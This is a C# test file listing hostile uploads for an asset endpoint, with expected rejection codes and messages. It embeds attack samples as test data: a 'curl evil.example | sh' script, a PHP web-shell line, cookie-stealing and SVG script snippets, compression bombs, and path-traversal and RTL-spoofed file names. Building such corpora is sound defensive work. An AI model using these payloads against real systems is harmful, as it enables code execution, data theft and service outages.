using System.Text;
using static Studio.Tests.Fakes.Hostile.HostileBytes;

namespace Studio.Tests.Fakes.Hostile;

/// <summary>
/// The hostile-input corpus for <c>POST /api/assets</c>: misleading, damaged, oversized and malicious files, hostile
/// names and broken requests, each with the status and the words its refusal must have. Limits assumed: images at most
/// 2 MB, videos at most 3 s (see <c>AssetsAppFactory</c>).
/// </summary>
public static class HostileCorpus
{
    private const int BadRequest = 400;
    private const int TooLarge = 413;
    private const int Unsupported = 415;

    public static IReadOnlyList<HostileCase> Cases { get; } =
    [
        // Not media at all, whatever the name says.
        File("script renamed .png", () => Text("#!/bin/sh\ncurl evil.example | sh\n"), "holiday.png", Unsupported, "script"),
        File("HTML renamed .png", () => Text("<html><body><script>alert(document.cookie)</script></body></html>"), "photo.png", Unsupported, "markup"),
        File("SVG with script", () => Text("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"), "logo.svg", Unsupported, "markup"),
        File("XML with BOM and SVG", () => Text("\uFEFF<?xml version=\"1.0\"?><svg onload=\"alert(1)\"/>"), "logo.png", Unsupported, "markup"),
        File("PHP named .php.jpg", () => Text("<?php system($_GET['c']); ?>"), "shell.php.jpg", Unsupported, "markup"),
        File("plain text named .mp3", () => Text("just some words, no sound at all, honestly"), "song.mp3", Unsupported, "text"),
        File("Windows program named .mp4", () => StartingWith("MZ"u8.ToArray(), 4096), "clip.mp4", Unsupported, "Windows program"),
        File("ELF program named .wav", () => StartingWith([0x7F, 0x45, 0x4C, 0x46], 4096), "sound.wav", Unsupported, "program"),
        File("GIF", () => StartingWith("GIF89a"u8.ToArray(), 256), "anim.gif", Unsupported, "GIF"),
        File("PDF named .jpg", () => Text("%PDF-1.7\n1 0 obj << /JavaScript (app.alert(1)) >> endobj\n"), "scan.jpg", Unsupported, "PDF"),
        File("AVI (RIFF, not WebP or WAV)", () => Riff("AVI ", 512), "clip.webp", Unsupported, "RIFF"),
        File("HEIC (ftyp brand not accepted)", () => Ftyp("heic", 512), "photo.mp4", Unsupported, "brand"),
        File("Matroska, not WebM", () => StartingWith([0x1A, 0x45, 0xDF, 0xA3, 0x9F, 0x42, 0x86, 0x81, 0x01, 0x42, 0x82, 0x88, .. "matroska"u8], 512), "clip.webm", Unsupported, "Matroska"),

        // Archives and bombs.
        File("ZIP named .png", ZipWithScript, "image.png", Unsupported, "ZIP"),
        File("ZIP bomb (64 MB of zeros)", () => ZipBomb(64L * 1024 * 1024), "bomb.mp4", Unsupported, "ZIP"),
        File("nested ZIP bomb", NestedZipBomb, "bomb.png", Unsupported, "ZIP"),
        File("gzip bomb", () => Gzip(64L * 1024 * 1024), "bomb.wav", Unsupported, "gzip"),

        // Too little to be anything.
        File("0 bytes", () => [], "empty.png", BadRequest, "empty"),
        File("1 byte", () => [0x89], "one.png", BadRequest, "1 byte"),
        File("PNG signature and 3 bytes", () => [.. PngSignature, 0, 0, 0], "short.png", BadRequest, "too short"),

        // Right magic bytes, wrong inside.
        File("PNG signature then garbage", () => StartingWith(PngSignature, 4096), "noise.png", BadRequest, "header chunk"),
        File("PNG header claiming 10000x10000", () => HugePng(10_000, 10_000, withPixels: false), "huge.png", TooLarge, "10000×10000"),
        File("PNG decompression bomb 10000x10000", () => HugePng(10_000, 10_000, withPixels: true), "bomb.png", TooLarge, "MP"),
        File("truncated PNG", async () => Cut(await MediaSamples.GetAsync("png"), 0.6), "cut.png", BadRequest, "cut short"),
        File("PNG with ZIP appended (polyglot)", async () => Concat(await MediaSamples.GetAsync("png"), ZipWithScript()), "poly.png", BadRequest, "polyglot"),
        File("PNG with HTML appended", async () => Concat(await MediaSamples.GetAsync("png"), Text("<script>alert(1)</script>")), "tail.png", BadRequest, "after its end"),
        File("JPEG header with ZIP tail (GIFAR style)", async () => Concat(await MediaSamples.GetAsync("jpg"), ZipWithScript()), "gifar.jpg", BadRequest, "polyglot"),
        File("JPEG markers around garbage", () => Concat(StartingWith([0xFF, 0xD8, 0xFF, 0xE0], 4096), [0xFF, 0xD9]), "noise.jpg", BadRequest, "damaged"),
        File("truncated JPEG", async () => Cut(await MediaSamples.GetAsync("jpg"), 0.5), "cut.jpg", BadRequest, "end marker"),
        File("JPEG with a script after its end", async () => Concat(await MediaSamples.GetAsync("jpg"), Text("<script>alert(1)</script>")), "tail.jpg", BadRequest, "end marker"),
        File("truncated WebP", async () => Cut(await MediaSamples.GetAsync("webp"), 0.5), "cut.webp", BadRequest, "cut short"),
        File("WebP header with garbage", () => Riff("WEBP", 2048), "noise.webp", BadRequest, "damaged"),
        File("truncated MP4", async () => Cut(await MediaSamples.GetAsync("mp4"), 0.6), "cut.mp4", BadRequest, "cut short"),
        File("MP4 header with garbage", () => Ftyp("isom", 4096), "noise.mp4", BadRequest, "MP4"),
        File("MP4 without its moov box", async () => WithoutBox(await MediaSamples.GetAsync("mp4"), "moov"), "nomoov.mp4", BadRequest, "moov"),
        File("MP4 with ZIP appended (polyglot)", async () => Concat(await MediaSamples.GetAsync("mp4"), ZipWithScript()), "poly.mp4", BadRequest, "polyglot"),
        File("MOV header with garbage", () => Ftyp("qt  ", 4096), "noise.mov", BadRequest, "MOV"),
        File("video longer than MaxVideoSeconds", () => MediaSamples.GetAsync("long.mp4"), "long.mp4", TooLarge, "lasts"),
        File("truncated WebM", async () => Cut(await MediaSamples.GetAsync("webm"), 0.5), "cut.webm", BadRequest, "WebM"),
        File("truncated WAV", async () => Cut(await MediaSamples.GetAsync("wav"), 0.5), "cut.wav", BadRequest, "cut short"),
        File("WAV header with garbage", () => Riff("WAVE", 4096), "noise.wav", BadRequest, "damaged"),
        File("MP3 frame sync then garbage", () => StartingWith([0xFF, 0xFB, 0x90, 0x64], 8192), "noise.mp3", BadRequest, "damaged"),
        File("ID3 tag then text", () => Concat("ID3"u8.ToArray(), [4, 0, 0, 0, 0, 0, 0], Text(new string('x', 2000))), "tagged.mp3", BadRequest, "MP3"),
        File("M4A header with garbage", () => Ftyp("M4A ", 4096), "noise.m4a", BadRequest, "M4A"),
        File("image over MaxImageBytes", () => StartingWith(PngSignature, (2 * 1024 * 1024) + 1), "big.png", TooLarge, "limit"),

        // Hostile names on a valid PNG.
        Named("traversal ../../etc/passwd.png", "../../etc/passwd.png", "path"),
        Named("backslash traversal ..\\x.png", "..\\\\x.png", "path"),
        Named("absolute path /etc/passwd.png", "/etc/passwd.png", "path"),
        Named("Windows absolute path", "C:\\\\Windows\\\\x.png", "path"),
        Named("NUL byte in the name", "a\0b.png", "U+0000"),
        Named("very long name", new string('a', 300) + ".png", "characters long"),
        NamedStar("unicode RTL override in the name", "invoice\u202Egnp.exe", "U+202E"),
        NamedStar("escape character in the name", "a\u001b[31m.png", "U+001B"),

        // Broken requests.
        new("wrong field name", async () => MultipartBody.Of(MultipartBody.File(await MediaSamples.GetAsync("png"), "a.png", field: "upload")), BadRequest, "field named 'file'"),
        new("no file at all", () => Task.FromResult(MultipartBody.Raw(Encoding.ASCII.GetBytes($"--{MultipartBody.Boundary}--\r\n"), $"multipart/form-data; boundary={MultipartBody.Boundary}")), BadRequest, "No file"),
        new("text in the file field", () => Task.FromResult(MultipartBody.Of(MultipartBody.Text("file", "not a file"))), BadRequest, "not a file"),
        new("two files", async () => MultipartBody.Of(MultipartBody.File(await MediaSamples.GetAsync("png"), "a.png"), MultipartBody.File(await MediaSamples.GetAsync("jpg"), "b.jpg")), BadRequest, "one file"),
        new("a file and another field", async () => MultipartBody.Of(MultipartBody.File(await MediaSamples.GetAsync("png"), "a.png"), MultipartBody.Text("title", "x")), BadRequest, "Unexpected field 'title'"),
        new("JSON body, not multipart", () => Task.FromResult(MultipartBody.Raw(Text("{\"file\":\"iVBORw0KGgo=\"}"), "application/json")), Unsupported, "multipart/form-data"),
        new("URL-encoded form", () => Task.FromResult(MultipartBody.Raw(Text("file=abc"), "application/x-www-form-urlencoded")), Unsupported, "multipart/form-data"),
        new("multipart without a boundary", async () => MultipartBody.Raw(MultipartBody.Write(MultipartBody.Boundary, MultipartBody.File(await MediaSamples.GetAsync("png"), "a.png")), "multipart/form-data"), BadRequest, "boundary"),
        new("body with another boundary than announced", async () => MultipartBody.Raw(MultipartBody.Write("other-boundary", MultipartBody.File(await MediaSamples.GetAsync("png"), "a.png")), $"multipart/form-data; boundary={MultipartBody.Boundary}"), BadRequest, "malformed"),
        new("body cut off inside the file", async () => MultipartBody.Raw(Cut(MultipartBody.Write(MultipartBody.Boundary, MultipartBody.File(await MediaSamples.GetAsync("png"), "a.png")), 0.7), $"multipart/form-data; boundary={MultipartBody.Boundary}"), BadRequest, "malformed"),
        new("part without Content-Disposition", () => Task.FromResult(MultipartBody.Raw(Encoding.ASCII.GetBytes($"--{MultipartBody.Boundary}\r\nContent-Type: image/png\r\n\r\nabc\r\n--{MultipartBody.Boundary}--\r\n"), $"multipart/form-data; boundary={MultipartBody.Boundary}")), BadRequest, "Content-Disposition"),
    ];

    /// <summary>The cases that are about one file (its bytes or its name), with that file: what an upload component can be given.</summary>
    public static IReadOnlyList<HostileCase> FileCases { get; } = [.. Cases.Where(c => c.File is not null)];

    private static HostileCase File(string name, Func<byte[]> bytes, string fileName, int status, string detail) =>
        File(name, () => Task.FromResult(bytes()), fileName, status, detail);

    private static HostileCase File(string name, Func<Task<byte[]>> bytes, string fileName, int status, string detail) =>
        new(name, async () => MultipartBody.Of(MultipartBody.File(await bytes(), fileName)), status, detail, new HostileFile(bytes, fileName));

    private static HostileCase Named(string name, string fileName, string detail) =>
        new(name, async () => MultipartBody.Of(MultipartBody.File(await MediaSamples.GetAsync("png"), fileName)), BadRequest, detail, new HostileFile(() => MediaSamples.GetAsync("png"), fileName));

    // The name sent as RFC 5987 filename* (UTF-8), the only way control characters survive a header.
    private static HostileCase NamedStar(string name, string fileName, string detail) =>
        new(name, async () => MultipartBody.Of(MultipartBody.FileStar(await MediaSamples.GetAsync("png"), fileName)), BadRequest, detail, new HostileFile(() => MediaSamples.GetAsync("png"), fileName));
}
